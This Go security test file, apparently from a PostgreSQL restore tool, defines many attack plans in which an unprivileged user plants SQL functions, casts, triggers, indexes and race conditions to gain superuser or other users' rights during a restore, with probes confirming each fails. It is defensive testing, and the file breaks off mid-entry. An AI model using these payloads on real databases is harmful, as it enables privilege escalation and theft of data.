package attack_test

import (
	"errors"
	"maps"
	"os/exec"
	"strings"
	"testing"

	"github.com/pgharbor/pgharbor/agent/backup"
	"github.com/pgharbor/pgharbor/agent/postgres"
	"github.com/pgharbor/pgharbor/agent/postgres/postgrestest"
)

// arm makes a function of mallory's that does something once, in the restored database only.
func arm(name, do string) string {
	return `CREATE FUNCTION ` + name + `_v(n int) RETURNS int LANGUAGE plpgsql VOLATILE AS $arm$ BEGIN
		IF current_database() <> 'mal' THEN BEGIN ` + do + ` EXCEPTION WHEN OTHERS THEN RAISE LOG 'ARM % %', sqlstate, sqlerrm; END; END IF; RETURN n; END $arm$;
	CREATE FUNCTION ` + name + `(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN ` + name + `_v(n); END';`
}

// plan is what mallory prepares for a restore, with what others have in her database.
type plan struct {
	before, hers, after string            // what a superuser, mallory, and the superuser again do in the source
	probe               map[string]string // queries in the restored database, and what they must say
	formats             []string          // both, where nil
	ours                bool              // it aims at steps that only this loader has: stock tools are not harmed by it
	fails               bool              // her code may make the restore of her own database fail
}

const schemaTrap = "CREATE SCHEMA trap;"

var plans = map[string]plan{
	"a schema that guards a function": {before: `CREATE SCHEMA admin; CREATE FUNCTION admin.run(q text) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE q; RETURN true; END'`,
		hers:  `CREATE FUNCTION hers.run(n int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM admin.run('SELECT hers.spring(''usage'')'); RETURN true; EXCEPTION WHEN OTHERS THEN RETURN true; END $$; CREATE DOMAIN hers.d AS int`,
		after: `CREATE TABLE admin.t (a hers.d); INSERT INTO admin.t VALUES (1); SET ROLE mallory; ALTER DOMAIN hers.d ADD CHECK (hers.run(VALUE))`},
	"builtin xml": {hers: schemaTrap + `CREATE TABLE trap.t (a int CHECK (query_to_xml('SELECT hers.spring(''xml'')', true, false, '') IS NOT NULL)); INSERT INTO trap.t VALUES (1)`},
	"a language that is closed": {before: `REVOKE USAGE ON LANGUAGE plpgsql, sql FROM PUBLIC; GRANT USAGE ON LANGUAGE plpgsql, sql TO mallory`,
		hers:  schemaTrap + arm("trap.arm", `CREATE FUNCTION trap.new() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'; ALTER FUNCTION trap.new() OWNER TO mallory;`) + `CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		after: `REVOKE USAGE ON LANGUAGE plpgsql, sql FROM mallory`, probe: map[string]string{"SELECT to_regproc('trap.new') IS NULL": "t"}},
	"builtin tsrewrite": {hers: schemaTrap + `CREATE TABLE trap.t (a int CHECK (ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery WHERE hers.spring(''ts'')') IS NOT NULL)); INSERT INTO trap.t VALUES (1)`},
	"superusers function": {before: `CREATE FUNCTION public.run(text) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN EXECUTE $1; RETURN true; END'; REVOKE ALL ON FUNCTION public.run(text) FROM PUBLIC`,
		hers: schemaTrap + `CREATE TABLE trap.t (a int CHECK (public.run(format('SELECT CASE WHEN current_database() <> ''mal'' THEN hers.spring(''deputy'') END'))))`, after: `INSERT INTO trap.t VALUES (1)`},
	"default planted": {hers: schemaTrap + arm("trap.arm", `ALTER TABLE trap.z ADD COLUMN IF NOT EXISTS evil boolean DEFAULT hers.spring('default');`) +
		`CREATE TABLE trap.z (n int); INSERT INTO trap.z VALUES (1); CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0)); INSERT INTO trap.a VALUES (1)`},
	"notnull planted": {hers: schemaTrap + arm("trap.arm", `ALTER TABLE trap.z ALTER n DROP NOT NULL;`) +
		`CREATE TABLE trap.z (n int PRIMARY KEY, CHECK (hers.fine('notnull', 1))); INSERT INTO trap.z VALUES (1); CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0)); INSERT INTO trap.a VALUES (1)`},
	"attach planted index": {hers: schemaTrap + arm("trap.arm", `CREATE INDEX IF NOT EXISTS planted_i ON trap.t (a) WHERE hers.fine('attach', 1);`) +
		`CREATE TABLE trap.t (a int) PARTITION BY RANGE (a); CREATE TABLE trap.p PARTITION OF trap.t FOR VALUES FROM (0) TO (9); CREATE TABLE trap.zz (a int) PARTITION BY RANGE ((a + trap.arm(1)))`},
	"trigger subpart": {hers: schemaTrap + `CREATE TABLE trap.t (a int) PARTITION BY RANGE (a); CREATE TABLE trap.p PARTITION OF trap.t FOR VALUES FROM (0) TO (9) PARTITION BY RANGE ((a + hers.seize('sub', 1))); CREATE TABLE trap.q PARTITION OF trap.p FOR VALUES FROM (0) TO (19);
		CREATE FUNCTION trap.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END'; CREATE TRIGGER g AFTER INSERT ON trap.t FOR EACH ROW EXECUTE FUNCTION trap.fire()`},
	"trigger subpart always": {hers: schemaTrap + `CREATE TABLE trap.t (a int) PARTITION BY RANGE (a); CREATE TABLE trap.p PARTITION OF trap.t FOR VALUES FROM (0) TO (9) PARTITION BY RANGE ((a + hers.seize('sub', 1))); CREATE TABLE trap.q PARTITION OF trap.p FOR VALUES FROM (0) TO (19);
		CREATE FUNCTION trap.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END'; CREATE TRIGGER g AFTER INSERT ON trap.t FOR EACH ROW EXECUTE FUNCTION trap.fire(); ALTER TABLE trap.t ENABLE ALWAYS TRIGGER g; CREATE INDEX ON trap.t (a); ALTER TABLE trap.t ALTER a SET STATISTICS 300; CREATE POLICY p ON trap.t USING (true); ALTER TABLE trap.t ENABLE ROW LEVEL SECURITY; ALTER TABLE trap.t FORCE ROW LEVEL SECURITY; CREATE PUBLICATION pub FOR TABLE trap.t; CREATE STATISTICS trap.st ON a, (a+1) FROM trap.t`},
	"cast planted": {hers: schemaTrap + `CREATE TYPE trap.e AS ENUM ('x'); CREATE FUNCTION trap.ef(trap.e) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
			IF current_database() <> 'mal' AND NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; PERFORM hers.spring('cast'); RETURN 'x'; END $$;
		CREATE CAST (trap.e AS text) WITH FUNCTION trap.ef(trap.e) AS IMPLICIT;` + arm("trap.arm", `CREATE CAST (trap.e AS text) WITH FUNCTION trap.ef(trap.e) AS IMPLICIT;`) +
		`CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1))); CREATE TABLE trap.b (x text) PARTITION BY RANGE ((('x'::trap.e::text || x))); DROP CAST (trap.e AS text)`},
	"default privileges": {hers: `CREATE SCHEMA aaa;` + arm("aaa.arm", `ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO mallory; ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO mallory WITH GRANT OPTION;`) + `CREATE DOMAIN aaa.d AS int CHECK (aaa.arm(VALUE) > 0)`,
		after: `CREATE VIEW public.v AS SELECT '{1}'::aaa.d[] AS a, passwd FROM pg_shadow; CREATE FUNCTION public.f(text, a aaa.d[] DEFAULT '{1}') RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE $1; RETURN 1; END'; REVOKE ALL ON FUNCTION public.f FROM PUBLIC`,
		probe: map[string]string{"SELECT has_table_privilege('mallory', 'public.v', 'SELECT')": "f", "SELECT has_function_privilege('mallory', 'public.f(text,aaa.d[])', 'EXECUTE')": "f"}},
	"nobody backdoor": {hers: schemaTrap + `GRANT USAGE, CREATE ON SCHEMA trap TO PUBLIC;` + arm("trap.arm", `IF to_regproc('trap.back') IS NULL THEN CREATE FUNCTION trap.back() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN INSERT INTO bobs.old VALUES (66); RETURN 1; END'; END IF;`) +
		`CREATE FUNCTION trap.call(n int) RETURNS int LANGUAGE plpgsql AS 'BEGIN IF to_regproc(''trap.back'') IS NOT NULL THEN EXECUTE ''SELECT trap.back()''; END IF; RETURN n; END';
		 GRANT USAGE ON SCHEMA trap TO bob; CREATE DOMAIN trap.d AS int; CREATE TABLE trap.zz (n int CHECK (trap.call(n) > 0)); INSERT INTO trap.zz VALUES (1)`,
		after: `SET ROLE bob; CREATE TABLE bobs.old (n trap.d); INSERT INTO bobs.old SELECT 1 FROM generate_series(1,1000); SET ROLE mallory; ALTER DOMAIN trap.d ADD CHECK (trap.arm(VALUE) > 0)`,
		probe: map[string]string{"SELECT count(*) FROM bobs.old": "1000"}},
	"count statistics": {hers: schemaTrap + arm("trap.arm", `CREATE STATISTICS IF NOT EXISTS trap.planted_s ON (n + hers.seize('count', 1)) FROM trap.z;`) +
		`CREATE TABLE trap.z (n int CHECK (length(bobs.secret()) > 0 AND hers.fine('z', n))); INSERT INTO trap.z VALUES (1); CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0)); INSERT INTO trap.a SELECT 1 FROM generate_series(1, 1000)`},
	"bobs default": {hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; CREATE FUNCTION trap.chk(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true'; CREATE DOMAIN trap.d AS int CHECK (trap.chk(VALUE))`,
		after: `SET ROLE bob; CREATE TABLE bobs.u (n trap.d[] DEFAULT '{1}', m int); CREATE VIEW bobs.v AS SELECT '{1}'::trap.d[] AS x; SET ROLE mallory; CREATE OR REPLACE FUNCTION trap.chk(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT hers.spring(''bobsdefault'')'`},
	"attach index superuser": {ours: true, hers: schemaTrap + `CREATE FUNCTION trap.f(int) RETURNS boolean LANGUAGE plpgsql VOLATILE AS 'BEGIN
			IF current_database() <> ''mal'' AND current_user LIKE ''pgharbor%'' THEN FOR i IN 1..50 LOOP PERFORM pg_sleep(0.1); EXIT WHEN to_regclass(''trap.part_i'') IS NOT NULL; END LOOP; DROP INDEX IF EXISTS trap.part_i; CREATE INDEX part_i ON trap.part (a) WHERE hers.fine(''attachindex'', 1); ALTER INDEX trap.part_i OWNER TO mallory; END IF; RETURN true; END';
			CREATE TABLE trap.z (a int, b int); CREATE FUNCTION trap.onz(trap.z) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.f(1); END $$; INSERT INTO trap.z VALUES (1); ALTER TABLE trap.z ADD CONSTRAINT ch CHECK (trap.onz(z.*))`,
		after: `CREATE TABLE public.t (a int) PARTITION BY RANGE (a); CREATE TABLE trap.part (a int); ALTER TABLE trap.part OWNER TO mallory; ALTER TABLE public.t ATTACH PARTITION trap.part FOR VALUES FROM (0) TO (9); CREATE INDEX ti ON public.t (a); ALTER INDEX trap.part_a_idx RENAME TO part_i`},
	"search path": {ours: true, before: `CREATE FUNCTION bobs.norm(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT 1'; CREATE FUNCTION bobs.chk(int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN norm($1) > 0; END'; ALTER FUNCTION bobs.norm(int) OWNER TO bob; ALTER FUNCTION bobs.chk(int) OWNER TO bob; ALTER ROLE bob SET search_path = bobs;
			SET search_path = bobs; CREATE TABLE bobs.t (n int CHECK (bobs.chk(n))); INSERT INTO bobs.t VALUES (1); ALTER TABLE bobs.t OWNER TO bob`,
		hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; CREATE FUNCTION trap.norm(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM hers.spring('path'); RETURN 1; END $$; ALTER DATABASE mal SET search_path = trap, bobs`},
	"bobs policy trigger index": {hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; CREATE FUNCTION trap.chk(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true'; CREATE DOMAIN trap.d AS int CHECK (trap.chk(VALUE))`,
		after: `SET ROLE bob; CREATE TABLE bobs.u (n trap.d[], m int); CREATE POLICY p ON bobs.u USING (n <> '{1}'::trap.d[]); SET ROLE mallory; CREATE OR REPLACE FUNCTION trap.chk(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT hers.spring(''bobspolicy'')'`},
	"attach index bob": {ours: true, hers: schemaTrap + `GRANT USAGE, CREATE ON SCHEMA trap TO bob; CREATE FUNCTION trap.f(int) RETURNS boolean LANGUAGE plpgsql VOLATILE AS 'BEGIN
			IF current_database() <> ''mal'' AND current_user LIKE ''pgharbor%'' THEN FOR i IN 1..50 LOOP PERFORM pg_sleep(0.1); EXIT WHEN to_regclass(''trap.part_i'') IS NOT NULL; END LOOP; DROP INDEX IF EXISTS trap.part_i; CREATE INDEX part_i ON trap.part (a) WHERE hers.fine(''attachindex'', 1); ALTER INDEX trap.part_i OWNER TO mallory; END IF; RETURN true; END';
			CREATE TABLE trap.z (a int, b int); CREATE FUNCTION trap.onz(trap.z) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.f(1); END $$; INSERT INTO trap.z VALUES (1); ALTER TABLE trap.z ADD CONSTRAINT ch CHECK (trap.onz(z.*))`,
		after: `CREATE TABLE bobs.t (a int) PARTITION BY RANGE (a); CREATE TABLE trap.part (a int); ALTER TABLE trap.part OWNER TO mallory; ALTER TABLE bobs.t ATTACH PARTITION trap.part FOR VALUES FROM (0) TO (9); CREATE INDEX ti ON bobs.t (a); ALTER INDEX trap.part_a_idx RENAME TO part_i; ALTER TABLE bobs.t OWNER TO bob`},
	"rowtype cast": {hers: schemaTrap + `CREATE TABLE trap.z (a int); INSERT INTO trap.z VALUES (1); CREATE FUNCTION trap.zt(trap.z) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
			IF current_database() <> 'mal' AND NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; PERFORM hers.spring('rowcast'); RETURN 'x'; END $$;
			CREATE CAST (trap.z AS text) WITH FUNCTION trap.zt(trap.z) AS IMPLICIT; ALTER TABLE trap.z ADD CONSTRAINT c CHECK (starts_with(z.*, 'x'))`},
	"trigger on parent of bob": {before: `CREATE FUNCTION public.ok(int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END'`,
		hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; CREATE TABLE trap.par (a int) PARTITION BY RANGE (a); CREATE FUNCTION trap.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM hers.spring(''parent''); RETURN new; END';` +
			arm("trap.arm", `CREATE TRIGGER planted BEFORE INSERT ON trap.par FOR EACH ROW EXECUTE FUNCTION trap.fire();`) + `CREATE TABLE trap.zz (a int) PARTITION BY RANGE ((a + trap.arm(1)))`,
		after: `CREATE TABLE bobs.part (a int CHECK (public.ok(a))); INSERT INTO bobs.part VALUES (1); ALTER TABLE bobs.part OWNER TO bob; ALTER TABLE trap.par ATTACH PARTITION bobs.part FOR VALUES FROM (0) TO (9)`},
	"race domain": {formats: []string{postgres.FormatCustom}, hers: schemaTrap + `CREATE DOMAIN trap.d AS int CHECK (hers.fine('racedomain', VALUE)); CREATE FUNCTION trap.arm(n int) RETURNS int LANGUAGE plpgsql AS $arm$ BEGIN IF current_database() <> 'mal' AND EXISTS (SELECT FROM pg_attribute WHERE attrelid = 'trap.z'::regclass AND attname = 'n' AND atttypid = 23) THEN
			ALTER TABLE trap.z ALTER n TYPE trap.d; PERFORM pg_sleep(3); END IF; RETURN n; END $arm$;
		CREATE TABLE trap.z (n int, f text); INSERT INTO trap.z SELECT 1, repeat('x', 1000) FROM generate_series(1,10); CREATE FUNCTION trap.slow(n int) RETURNS int LANGUAGE plpgsql AS 'BEGIN IF current_database() <> ''mal'' AND n = 1 THEN PERFORM pg_sleep(1.5); END IF; RETURN 1; END'; CREATE TABLE trap.b1 (n int CHECK (trap.slow(n) > 0), f text); INSERT INTO trap.b1 SELECT n, repeat('x', 1000) FROM generate_series(1, 2000) n; CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0), f text); INSERT INTO trap.a SELECT 1, repeat('x', 1000) FROM generate_series(1, 3000)`},
	"swallow": {ours: true, before: `SET ROLE bob; CREATE TABLE bobs.private (owner name, s text); INSERT INTO bobs.private VALUES ('bob', 'secret'); GRANT SELECT, INSERT ON bobs.private TO PUBLIC; ALTER TABLE bobs.private ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON bobs.private USING (owner = current_user);
			CREATE FUNCTION bobs.root(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE $1; END'; REVOKE ALL ON FUNCTION bobs.root(text) FROM PUBLIC`,
		hers:  `CREATE SCHEMA zzz; CREATE TABLE zzz.z (begin int); CREATE FUNCTION zzz.f() RETURNS SETOF int LANGUAGE sql BEGIN ATOMIC SELECT n FROM bobs.ledger; SELECT n FROM bobs.k; SELECT 1 FROM bobs.private; SELECT begin FROM zzz.z; END`,
		probe: map[string]string{"SELECT relrowsecurity FROM pg_class WHERE oid = 'bobs.private'::regclass": "t", "SELECT count(*) FROM pg_policy": "1", "SELECT has_function_privilege('mallory', 'bobs.root(text)', 'EXECUTE')": "f", "SELECT count(*) FROM pg_constraint WHERE conname = 'k_pkey'": "1"}},
	"deputy partition": {before: `CREATE FUNCTION public.ri(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM pg_catalog.set_config(''trap.x'', ''1'', false); IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN PERFORM hers.spring(''deputy2''); END IF; RETURN 1; END'`,
		hers: schemaTrap + `CREATE TABLE trap.t (a int) PARTITION BY RANGE ((a + public.ri(1)))`, after: `REVOKE ALL ON FUNCTION public.ri FROM PUBLIC`},
	"rowtype cast generated": {hers: schemaTrap + `CREATE TYPE trap.e AS ENUM ('x'); CREATE FUNCTION trap.ef(trap.e) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
			IF current_database() <> 'mal' AND NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; PERFORM hers.spring('cast2'); RETURN 'x'; END $$;
		CREATE CAST (trap.e AS text) WITH FUNCTION trap.ef(trap.e) AS IMPLICIT;` + arm("trap.arm", `CREATE CAST (trap.e AS text) WITH FUNCTION trap.ef(trap.e) AS IMPLICIT;`) +
		`CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1))); CREATE TABLE trap.b (x text, y text GENERATED ALWAYS AS ('x'::trap.e::text) STORED); INSERT INTO trap.b VALUES ('q'); DROP CAST (trap.e AS text)`},
	"swallow column privilege": {ours: true, formats: []string{postgres.FormatCustom}, before: `SET ROLE bob; CREATE VIEW bobs.v AS SELECT 1`,
		hers:  `CREATE SCHEMA zzz; CREATE TYPE zzz.begin AS ENUM ('x'); CREATE FUNCTION zzz.f() RETURNS zzz.begin LANGUAGE sql BEGIN ATOMIC SELECT 'x'::zzz.begin FROM bobs.ledger, bobs.k; END`,
		probe: map[string]string{"SELECT count(*) FROM pg_constraint WHERE conname = 'k_pkey'": "1"}},
	"schema owner swaps function": {hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; ` + arm("trap.arm", `IF (SELECT proowner = 'bob'::regrole FROM pg_proc WHERE oid = 'trap.audit'::regproc) THEN DROP FUNCTION trap.audit(); CREATE FUNCTION trap.audit() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM hers.spring(''x''); RETURN new; END'; ALTER FUNCTION trap.audit() OWNER TO mallory; END IF;`) +
		`CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		after: `CREATE FUNCTION trap.audit() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END'; ALTER FUNCTION trap.audit() OWNER TO bob; CREATE TABLE bobs.t (a int); CREATE TRIGGER audit BEFORE INSERT ON bobs.t FOR EACH ROW EXECUTE FUNCTION trap.audit(); ALTER TABLE bobs.t OWNER TO bob`,
		probe: map[string]string{"SELECT p.proowner::regrole FROM pg_trigger t JOIN pg_proc p ON p.oid = tgfoid WHERE tgname = 'audit'": "bob"}},
	"aggregate window": {before: `SET ROLE bob; CREATE FUNCTION bobs.acc(int, int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN CREATE TABLE IF NOT EXISTS bobs.agged (); RETURN 1; END'; CREATE AGGREGATE bobs.agg(int) (SFUNC = bobs.acc, STYPE = int); REVOKE ALL ON FUNCTION bobs.acc(int, int), bobs.agg(int) FROM PUBLIC`,
		hers:  schemaTrap + arm("trap.arm", `EXECUTE 'SELECT bobs.agg(1)';`) + `CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		probe: map[string]string{"SELECT count(*) FROM pg_class WHERE relname = 'agged'": "0"}},
	"aggregate of everything": {before: `SET ROLE bob; CREATE FUNCTION bobs.acc(int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN CREATE TABLE IF NOT EXISTS bobs.agged (); RETURN 1; END'; CREATE AGGREGATE bobs.agg(*) (SFUNC = bobs.acc, STYPE = int); REVOKE ALL ON FUNCTION bobs.acc(int), bobs.agg() FROM PUBLIC`,
		hers:  schemaTrap + arm("trap.arm", `EXECUTE 'SELECT bobs.agg(*)';`) + `CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		probe: map[string]string{"SELECT count(*) FROM pg_class WHERE relname = 'agged'": "0"}},
	"ordered-set aggregate": {before: `SET ROLE bob; CREATE FUNCTION bobs.acc(int, int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN CREATE TABLE IF NOT EXISTS bobs.agged (); RETURN 1; END'; CREATE AGGREGATE bobs.agg(ORDER BY int) (SFUNC = bobs.acc, STYPE = int); REVOKE ALL ON FUNCTION bobs.acc(int, int), bobs.agg(int) FROM PUBLIC`,
		hers:  schemaTrap + arm("trap.arm", `EXECUTE 'SELECT bobs.agg() WITHIN GROUP (ORDER BY 1)';`) + `CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		probe: map[string]string{"SELECT count(*) FROM pg_class WHERE relname = 'agged'": "0"}},
	"extension rights window": {before: `CREATE EXTENSION fuzzystrmatch; REVOKE ALL ON FUNCTION public.soundex(text) FROM PUBLIC`,
		hers:  schemaTrap + arm("trap.arm", `EXECUTE 'SELECT public.soundex(''x'')'; CREATE TABLE trap.could(); ALTER TABLE trap.could OWNER TO mallory;`) + `CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		probe: map[string]string{"SELECT count(*) FROM pg_class WHERE relname = 'could'": "0"}},
	"catalog rights window": {before: `REVOKE ALL ON FUNCTION pg_catalog.lo_create(oid) FROM PUBLIC`,
		hers:  schemaTrap + arm("trap.arm", `PERFORM pg_catalog.lo_create(9999); CREATE TABLE trap.could(); ALTER TABLE trap.could OWNER TO mallory;`) + `CREATE TABLE trap.a (n int) PARTITION BY RANGE ((n + trap.arm(1)))`,
		probe: map[string]string{"SELECT count(*) FROM pg_class WHERE relname = 'could'": "0"}},
	"builtin trusted parent": {before: `CREATE TABLE public.par (a int, b text) PARTITION BY RANGE (a)`, hers: schemaTrap + `CREATE TABLE trap.p (a int, b text, CHECK (query_to_xml('SELECT CASE WHEN (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN hers.spring(''xmlpart'') END', true, false, '') IS NOT NULL)); INSERT INTO trap.p VALUES (1, 'x')`,
		after: `ALTER TABLE public.par ATTACH PARTITION trap.p FOR VALUES FROM (0) TO (9)`},
	"nobody trigger on superusers table": {hers: `CREATE SCHEMA aaa; GRANT USAGE ON SCHEMA aaa TO PUBLIC; CREATE FUNCTION aaa.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM hers.spring(''later''); RETURN new; END';` + arm("aaa.arm", `EXECUTE format('GRANT ALL ON TABLE %I.t TO mallory', current_user);`) + `CREATE DOMAIN aaa.d AS int CHECK (aaa.arm(VALUE) > 0); ` + strings.ReplaceAll(arm("aaa.arm2", `CREATE TRIGGER later BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION aaa.fire();`), "$arm$", "$arm2$") + `CREATE TABLE aaa.zz (n int CHECK (aaa.arm2(n) > 0)); INSERT INTO aaa.zz VALUES (1)`,
		after: `CREATE TABLE public.t (a aaa.d[] DEFAULT '{1}', b int)`,
		probe: map[string]string{"SELECT has_table_privilege('mallory', 'public.t', 'INSERT')": "f", "SELECT count(*) FROM pg_trigger WHERE tgname = 'later'": "0"}},
	"nobody trigger directly": {ours: true, hers: `CREATE SCHEMA aaa; GRANT USAGE ON SCHEMA aaa TO PUBLIC; CREATE FUNCTION aaa.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM hers.spring(''later''); RETURN new; END';` + arm("aaa.arm", `EXECUTE format('CREATE TRIGGER later BEFORE INSERT ON %I.t FOR EACH ROW EXECUTE FUNCTION aaa.fire()', current_user);`) + `CREATE DOMAIN aaa.d AS int CHECK (aaa.arm(VALUE) > 0)`,
		after: `CREATE TABLE public.t (a aaa.d[] DEFAULT '{1}', b int)`,
		probe: map[string]string{"SELECT count(*) FROM pg_trigger WHERE tgname = 'later'": "0"}},
	"replica identity": {ours: true, hers: schemaTrap + `CREATE FUNCTION trap.f(int) RETURNS boolean LANGUAGE plpgsql VOLATILE AS 'BEGIN
			IF current_database() <> ''mal'' AND current_user LIKE ''pgharbor%'' THEN FOR i IN 1..50 LOOP PERFORM pg_sleep(0.1); EXIT WHEN to_regclass(''trap.zi'') IS NOT NULL; END LOOP; DROP INDEX IF EXISTS trap.zi; CREATE UNIQUE INDEX zi ON trap.y (a) WHERE hers.fine(''replica'', 1); ALTER INDEX trap.zi OWNER TO mallory; END IF; RETURN true; END';
			CREATE TABLE trap.y (a int NOT NULL); CREATE UNIQUE INDEX zi ON trap.y (a); ALTER TABLE trap.y REPLICA IDENTITY USING INDEX zi;
			CREATE TABLE trap.z (a int, b int); CREATE FUNCTION trap.onz(trap.z) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.f(1); END $$; INSERT INTO trap.z VALUES (1); ALTER TABLE trap.z ADD CONSTRAINT ch CHECK (trap.onz(z.*))`},
	"schema owner swaps": {hers: schemaTrap + `CREATE TABLE trap.loot (s text); ` + arm("trap.arm", `IF (SELECT relowner = 'bob'::regrole FROM pg_class WHERE oid = 'trap.secret'::regclass) THEN DROP TABLE trap.secret; CREATE TABLE trap.secret (s text); ALTER TABLE trap.secret OWNER TO mallory; END IF;`) +
		`CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0)); INSERT INTO trap.a SELECT 1 FROM generate_series(1, 1000)`,
		after: `CREATE TABLE trap.secret (s text); ALTER TABLE trap.secret OWNER TO bob; INSERT INTO trap.secret VALUES ('bobs secret')`,
		probe: map[string]string{"SELECT has_table_privilege('mallory', 'trap.secret', 'SELECT') AND (SELECT count(*) > 0 FROM trap.secret)": "f"}},
	"race attach": {formats: []string{postgres.FormatCustom}, hers: schemaTrap + `CREATE FUNCTION trap.f(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM hers.spring(''raceattach''); RETURN n; END'; CREATE TABLE trap.par (n int, f text) PARTITION BY LIST (trap.f(n));` +
		`CREATE TABLE trap.done (); CREATE FUNCTION trap.arm(n int) RETURNS int LANGUAGE plpgsql AS $arm$ BEGIN IF current_database() <> 'mal' AND NOT EXISTS (SELECT FROM pg_inherits WHERE inhrelid = 'trap.z'::regclass) THEN
			RAISE LOG 'ARMED'; ALTER TABLE trap.par ATTACH PARTITION trap.z FOR VALUES IN (1); PERFORM pg_sleep(3); END IF; RETURN n; END $arm$;
		CREATE TABLE trap.z (n int, f text); INSERT INTO trap.z SELECT 1, repeat('x', 1000) FROM generate_series(1,10); CREATE FUNCTION trap.slow(n int) RETURNS int LANGUAGE plpgsql AS 'BEGIN IF current_database() <> ''mal'' AND n = 1 THEN PERFORM pg_sleep(1.5); END IF; RETURN 1; END'; CREATE TABLE trap.b1 (n int CHECK (trap.slow(n) > 0), f text); INSERT INTO trap.b1 SELECT n, repeat('x', 1000) FROM generate_series(1, 2000) n; CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0), f text); INSERT INTO trap.a SELECT 1, repeat('x', 1000) FROM generate_series(1, 3000)`},
	"race rename": {formats: []string{postgres.FormatCustom}, hers: schemaTrap + `CREATE FUNCTION trap.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM hers.spring(''racerename''); RETURN new; END';
		CREATE FUNCTION trap.arm(n int) RETURNS int LANGUAGE plpgsql AS $arm$ BEGIN IF current_database() <> 'mal' AND to_regclass('trap.zold') IS NULL THEN
			ALTER TABLE trap.z RENAME TO zold; CREATE TABLE trap.z (n int, f text); ALTER TABLE trap.z OWNER TO mallory; CREATE TRIGGER planted BEFORE INSERT ON trap.z FOR EACH ROW EXECUTE FUNCTION trap.fire(); ALTER TABLE trap.z ENABLE ALWAYS TRIGGER planted; PERFORM pg_sleep(3); END IF; RETURN n; END $arm$;
